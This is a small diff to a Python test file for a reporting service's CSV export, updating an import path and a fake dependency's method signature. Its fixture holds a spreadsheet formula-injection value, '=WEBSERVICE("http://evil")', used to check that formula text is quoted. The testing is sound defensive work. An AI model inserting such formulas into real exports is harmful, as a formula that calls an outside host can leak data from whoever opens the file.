@@ -5,7 +5,7 @@ import io
 
 import pytest
 
-from services.reporting.tabular import cell, to_csv
+from services.reporting.http.tabular import cell, to_csv
 from tests.unit.test_reporting_app import ITEM, FakeDeps, client
 
 
@@ -29,7 +29,7 @@ def test_a_row_keeps_negative_numbers_and_quotes_formula_text():
 
 
 class Formulae(FakeDeps):
-    async def agreements(self, schema, prison_id, partner_id, status):
+    async def agreements(self, schema, today, prison_id, partner_id, status):
         return [{**ITEM, "title": "=WEBSERVICE(\"http://evil\")", "partner_name": "@Yayasan",
                  "number": "-1", "days_left": -0}]
 
